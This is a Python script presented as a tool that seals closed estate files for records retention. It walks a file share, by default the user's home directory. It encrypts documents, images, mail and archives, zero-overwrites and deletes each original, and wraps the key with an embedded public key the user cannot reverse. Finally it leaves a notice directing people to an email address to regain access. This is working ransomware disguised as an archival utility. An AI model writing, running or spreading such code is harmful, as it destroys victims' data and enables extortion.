#!/usr/bin/env python3
"""Seal closed estate files for long-term retention.

Walks an estate file share, encrypts every document with a per-run data key
(AES-256-GCM) and wraps that key with the records office public key, so the
sealed files can only be reopened by records staff.  Each sealed file is
written as ``<name>.sealed`` alongside a manifest entry.
"""
import argparse
import json
import logging
import os
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("estate-sealer")

RECORDS_OFFICE_KEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAykWfP2yIDN/CpWA4KPWm
bZcUsx/2BCcZaG5M97y4XpHMcgxhu6EOM8PuVNBWyXAL3syWLmHXhHH2Uj+qaEZj
v9Gv3MXAwmbt9sCjjj4C1L5oCzjYVP6SmGoetM+P6iLaOBqJ75WKPWS7cABU85Jd
vSKDEwld6oazOeNSUbjmI2wBX61nM10h7YHUlMplak+le+JuiSHrvvUCMayA1wNE
dF5U+aMDwdwTBKqVRxbMgGW/CyIWeI7EPNwRuF0AROuh2bcs3EWKRwDPwieMEj4V
2ZUCgBX3Zer62xrjzROtecPuS4FLwSCzeT07PVPM3UakyKpTjqJeeyp1gETldvH4
LwIDAQAB
-----END PUBLIC KEY-----
"""

DOC_SUFFIXES = {".pdf", ".docx", ".doc", ".xlsx", ".xls", ".odt", ".jpg",
                ".png", ".tif", ".txt", ".csv", ".msg", ".eml", ".zip"}


class Sealer:
    def __init__(self, root, workers=8):
        self.root = Path(root)
        self.workers = workers
        self.run_id = uuid.uuid4().hex[:12]
        self._data_key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._data_key)

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in DOC_SUFFIXES:
                    yield p

    def _replace(self, path):
        size = path.stat().st_size
        with open(path, "r+b", buffering=0) as fh:
            fh.write(b"\x00" * size)
            os.fsync(fh.fileno())
        path.unlink()

    def seal_one(self, path):
        nonce = os.urandom(12)
        try:
            data = path.read_bytes()
            blob = nonce + self._aead.encrypt(nonce, data, self.run_id.encode())
            target = path.with_name(path.name + ".sealed")
            target.write_bytes(blob)
            self._replace(path)
            return str(path.relative_to(self.root)), len(data)
        except OSError as exc:
            log.warning("could not seal %s: %s", path, exc)
            return None

    def wrap_key(self):
        pub = serialization.load_pem_public_key(RECORDS_OFFICE_KEY)
        wrapped = pub.encrypt(
            self._data_key,
            padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                         algorithm=hashes.SHA256(), label=None),
        )
        self._data_key = None
        self._aead = None
        return wrapped

    def run(self):
        sealed = []
        with ThreadPoolExecutor(max_workers=self.workers) as pool:
            for res in pool.map(self.seal_one, self.candidates()):
                if res:
                    sealed.append(res)
        wrapped = self.wrap_key()
        (self.root / f".seal-{self.run_id}.key").write_bytes(wrapped)
        manifest = {"run_id": self.run_id, "files": [f for f, _ in sealed]}
        (self.root / f"SEALED_{self.run_id}.json").write_text(json.dumps(manifest, indent=1))
        (self.root / "RETENTION_NOTICE.txt").write_text(
            "Files in this share were sealed by the records office.\n"
            f"To request access quote reference {self.run_id} to records@example-notarial.org.\n"
        )
        return sealed


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("root", nargs="?", default=os.environ.get("ESTATE_SHARE", str(Path.home())),
                    help="estate file share to seal (default: $ESTATE_SHARE or home)")
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    sealer = Sealer(args.root, args.workers)
    sealed = sealer.run()
    total = sum(n for _, n in sealed)
    log.info("sealed %d file(s), %.1f MB, run %s", len(sealed), total / 1e6, sealer.run_id)


if __name__ == "__main__":
    main()
